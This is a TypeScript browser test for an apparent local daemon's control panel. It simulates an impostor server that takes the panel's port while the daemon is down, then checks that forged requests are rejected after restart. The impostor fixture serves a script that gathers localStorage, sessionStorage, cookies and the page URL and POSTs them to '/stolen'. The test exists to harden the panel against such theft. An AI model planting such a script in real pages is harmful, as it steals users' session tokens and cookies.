import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import type { RequestListener } from 'node:http'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { PRIVATE } from '../control/support/private-routes.ts'
import { forgeries, listenInstead, replay } from '../support/foreign-listener.ts'
import { readObject } from '../support/phone.ts'
import { needs } from '../support/requirements.ts'
import { enter, openPanel, restart } from './support/panel.ts'

/** Plays the daemon as well as one can who has seen its panel, and hands out a page of its own. */
function impostor(state: string): RequestListener {
  const steal = `
    const all = { ...sessionStorage, ...localStorage, cookie: document.cookie, href: location.href, name }
    fetch('/stolen', { method: 'POST', body: JSON.stringify(all) }).then(() => document.title = 'stolen')`
  return ({ url = '' }, response) => {
    response.setHeader('Set-Cookie', 'clipgate_panel=foreign; Path=/; Max-Age=604800')
    if (url === '/events') {
      response.writeHead(200, { 'Content-Type': 'text/event-stream' })
      response.write(`event: state\ndata: ${state}\n\n`)
    } else if (url === '/state') {
      response.writeHead(200, { 'Content-Type': 'application/json' }).end(state)
    } else if (url === '/') {
      response.setHeader('Content-Type', 'text/html').end(`<script>${steal}</script>`)
    } else {
      response.writeHead(409, { 'Content-Type': 'application/problem+json' }).end('{"title":"No"}')
    }
  }
}

describe(
  'a program that takes the port of the panel while the daemon is down',
  needs('chromium'),
  () => {
    it('hears nothing from an open page that opens anything when the daemon runs again', async (t) => {
      const { page, daemon, assertCalm } = await openPanel(t)
      const { control } = daemon.ready
      await (await daemon.phone('Pixel')).pushText('seen before')
      await page.getByText('seen before', { exact: true }).waitFor()
      const token = await readFile(join(daemon.folder, 'data', 'control.token'), 'utf8')
      const headers = { authorization: `Bearer ${token.trim()}` }
      const state = await readObject(await fetch(`${control}/state`, { headers }))
      // Another version is no reason for the page to load anything from there.
      const shown = { ...state, status: { ...Object(state['status']), version: '99.0.0' } }

      await daemon.kill()
      const foreign = await listenInstead(t, control, impostor(JSON.stringify(shown)))
      await page.getByText('99.0.0', { exact: true }).waitFor()
      await page.getByText('Connected', { exact: true }).waitFor()
      await page.getByRole('button', { name: 'Add a device' }).click()
      await page.getByRole('dialog').getByLabel('Name').fill('My next phone')
      await page.getByRole('button', { name: 'Show QR code' }).click()
      await page.getByRole('dialog').getByText('No', { exact: true }).waitFor()
      await page.keyboard.press('Escape')
      await page.getByRole('button', { name: 'Sign out all browsers' }).click()
      await page.getByRole('button', { name: 'Sign out', exact: true }).click()
      await page.getByRole('dialog').getByText('No', { exact: true }).waitFor()
      assertCalm()
      assert.deepEqual(
        foreign.heard.filter(({ path }) => path === '/'),
        [],
      )
      await page.reload()
      await page.waitForFunction('document.title === "stolen"')
      await foreign.close()
      const methods = new Set(foreign.heard.map(({ method, path }) => `${method} ${path}`))
      for (const line of ['GET /events', 'POST /devices', 'POST /stolen'])
        assert.ok(methods.has(line), line)

      const second = await restart(t, daemon)
      const files = new Set(['/', '/favicon.ico', '/icon.svg'])
      const attempts = forgeries(foreign.heard, PRIVATE).filter(({ path }) => !files.has(path))
      for (const attempt of attempts) {
        const status = await replay(control, attempt)
        assert.ok(status === 401 || status === 403, `${status} to ${JSON.stringify(attempt)}`)
      }
      const devices = JSON.parse((await second.run('devices', '--json')).stdout)
      assert.deepEqual(
        devices.map(({ label }: { label: string }) => label),
        ['Pixel'],
      )
      await enter(page, second)
      await page.getByText('seen before', { exact: true }).waitFor()
    })
  },
)
